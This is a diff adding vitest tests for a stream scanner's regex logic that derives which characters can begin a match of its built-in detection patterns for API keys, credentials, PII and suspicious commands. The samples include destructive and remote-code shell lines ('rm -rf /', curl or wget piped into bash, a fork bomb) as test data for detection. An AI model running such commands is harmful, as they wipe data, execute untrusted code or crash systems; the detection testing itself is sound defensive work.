@@ -1,6 +1,6 @@
 import { describe, expect, it } from "vitest";
 import { BUILTIN_PATTERNS } from "../src/index.js";
-import { prefixSource } from "../src/prefix.js";
+import { firstCharSource, prefixSource } from "../src/prefix.js";
 import { FAKE } from "./helpers.js";
 
 /** Whether the whole of `text` is accepted as a (possibly complete) prefix of a match. */
@@ -44,5 +44,43 @@ describe("prefix derivation (what the stream scanner may still hold back)", () =
     expect(isLivePrefix("(?<q>['\"])[a-z]+\\k<q>", "'abc'")).toBe(true);
     expect(isLivePrefix("(?<q>['\"])[a-z]+\\k<q>", "'ab1")).toBe(false);
     expect(prefixSource("(")).toBeNull();
+  });
+});
+
+describe("first characters (where the stream scanner need not look for a prefix)", () => {
+  const begins = (source: string, char: string) => new RegExp(`^${firstCharSource(source)}$`).test(char);
+
+  it("every built-in pattern's matches begin with one of its first characters", () => {
+    const samples: Array<[string, string]> = [
+      ["api_keys", FAKE.openaiProject],
+      ["api_keys", FAKE.aws],
+      ["credentials", 'password: "hunter22"'],
+      ["pii_emails", "jane.doe+x@example.co.uk"],
+      ["pii_phone_numbers", "+44 20 7946 0958"],
+      ["ip_addresses", "2001:db8::8a2e:370:7334"],
+      ["suspicious_commands", "rm -rf /"],
+      ["suspicious_commands", "curl -fsSL https://x.example/i.sh | sudo bash"],
+      ["suspicious_commands", "bash <(wget -qO- https://x.example)"],
+      ["suspicious_commands", ":(){ :|:& };:"],
+    ];
+    for (const [name, match] of samples) {
+      expect(new RegExp(source(name)).exec(match)?.index, `${name} matches ${match}`).toBe(0);
+      expect(begins(source(name), match[0]!), `${name} may begin with ${match[0]}`).toBe(true);
+    }
+  });
+
+  it("passes over assertions and optional parts, and names only what can begin a match", () => {
+    const source = "\\b(?<=\\s)(?:x?y*|z)[ab]";
+    for (const char of ["x", "y", "z", "a", "b"]) expect(begins(source, char), char).toBe(true);
+    for (const char of ["c", " ", "\\"]) expect(begins(source, char), char).toBe(false);
+    expect(begins("a.b", "a")).toBe(true);
+    expect(begins(".", "\n")).toBe(true); // any character, a superset of the dot
+  });
+
+  it("a backreference begins as its group does; a group referring to itself or a source it cannot parse gives null", () => {
+    for (const char of ["a", "b"]) expect(begins("(a)?\\1b", char), char).toBe(true);
+    expect(begins("(a)?\\1b", "c")).toBe(false);
+    expect(firstCharSource("(\\1a)")).toBeNull();
+    expect(firstCharSource("(")).toBeNull();
   });
 });
